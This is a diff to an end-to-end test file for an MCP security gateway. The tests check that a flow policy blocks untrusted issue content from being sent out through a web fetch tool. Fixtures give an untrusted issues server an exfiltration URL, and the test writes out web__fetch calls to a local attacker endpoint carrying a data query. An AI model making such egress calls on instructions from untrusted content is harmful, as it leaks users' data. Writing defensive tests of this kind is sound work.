@@ -18,7 +18,10 @@ from typing import Any
 
 import pytest
 from mcp import Client, StdioServerParameters
+from mcp.client.streamable_http import streamable_http_client
 from mcp.shared.exceptions import MCPError
+
+from conftest import free_loopback_port, wait_for_port
 
 pytestmark = [pytest.mark.e2e, pytest.mark.timeout(90)]
 GATEWAY_DENIED = -32010
@@ -63,32 +66,35 @@ def attacker() -> Iterator[Attacker]:
     server.close()
 
 
+def gateway_spec(attacker: Attacker) -> dict[str, Any]:
+    return {
+        "servers": {
+            "issues": {
+                "command": sys.executable,
+                "args": [str(FIXTURES / "issues_server.py")],
+                "env": {"EXFIL_URL": attacker.url},
+                # Anyone can open an issue: what it says is untrusted.
+                "labels": {"trust": "untrusted", "data": "public"},
+            },
+            # No labels: `openWorldHint: true` makes `fetch` an untrusted egress tool.
+            "web": {"command": sys.executable, "args": [str(FIXTURES / "web_server.py")]},
+        },
+        "identity": {"subject": "dana"},
+        "inspections": [
+            {"name": "injection", "action": "warn"},
+            {"name": "provenance"},
+            {"name": "policy", "file": "policy.yaml"},
+        ],
+    }
+
+
 @pytest.fixture
 def gateway(
     tmp_path: Path, attacker: Attacker, ostiary_command: list[str], write_config: Callable[..., Path]
 ) -> Callable[[str], tuple[Client, Path]]:
     def start(policy: str) -> tuple[Client, Path]:
         (tmp_path / "policy.yaml").write_text(policy)
-        spec: dict[str, Any] = {
-            "servers": {
-                "issues": {
-                    "command": sys.executable,
-                    "args": [str(FIXTURES / "issues_server.py")],
-                    "env": {"EXFIL_URL": attacker.url},
-                    # Anyone can open an issue: what it says is untrusted.
-                    "labels": {"trust": "untrusted", "data": "public"},
-                },
-                # No labels: `openWorldHint: true` makes `fetch` an untrusted egress tool.
-                "web": {"command": sys.executable, "args": [str(FIXTURES / "web_server.py")]},
-            },
-            "identity": {"subject": "dana"},
-            "inspections": [
-                {"name": "injection", "action": "warn"},
-                {"name": "provenance"},
-                {"name": "policy", "file": "policy.yaml"},
-            ],
-        }
-        config = write_config(spec)
+        config = write_config(gateway_spec(attacker))
         command, *prefix = ostiary_command
         params = StdioServerParameters(command=command, args=[*prefix, "run", "--config", str(config)])
         return Client(params, mode="legacy"), config
@@ -195,3 +201,39 @@ async def test_without_flow_rules_the_fetch_goes_through_and_the_trace_is_kept(
         ("url", attacker.url, issue["links"]["provenance"])
     ]
     assert [r["id"] for r in chain["read_before"]] == [issue["links"]["provenance"]]
+
+
+async def test_stateless_clients_of_one_principal_share_a_trace_and_a_legacy_session_has_its_own(
+    tmp_path: Path,
+    attacker: Attacker,
+    ostiary_command: list[str],
+    write_config: Callable[..., Path],
+    spawn: Callable[..., subprocess.Popen[bytes]],
+) -> None:
+    (tmp_path / "policy.yaml").write_text((EXAMPLES / "flow-policy.yaml").read_text())
+    config = write_config(gateway_spec(attacker))
+    port = free_loopback_port()
+    with (tmp_path / "gateway.log").open("wb") as log:
+        proc = spawn([*ostiary_command, "serve", "--config", str(config), "--port", str(port)], stderr=log)
+    wait_for_port(port, proc)
+    url = f"http://127.0.0.1:{port}/mcp"
+    async with Client(streamable_http_client(url)) as reader:  # 2026-07-28: stateless
+        await reader.list_tools()
+        await reader.call_tool("issues__get_issue", {"number": 7})
+    async with Client(streamable_http_client(url), mode="legacy") as legacy:  # its own session
+        await legacy.list_tools()
+        done = await legacy.call_tool("web__fetch", {"url": attacker.url})
+        assert not done.is_error
+    async with Client(streamable_http_client(url)) as sender:  # another stateless connection
+        await sender.list_tools()
+        with pytest.raises(MCPError) as raised:
+            await sender.call_tool("web__fetch", {"url": f"{attacker.url}?data=1"})
+    assert raised.value.error.data["code"] == "policy.denied"
+    assert "no-egress-of-untrusted-echoes" in raised.value.error.message
+    assert attacker.hits == ["/collect"]
+    calls = [r for r in records(config) if r.get("hook") == "on_client_request" and r.get("target")]
+    assert [(r["target"], r["protocol"]) for r in calls] == [
+        ("get_issue", "2026-07-28"),
+        ("fetch", "2025-11-25"),
+        ("fetch", "2026-07-28"),
+    ]
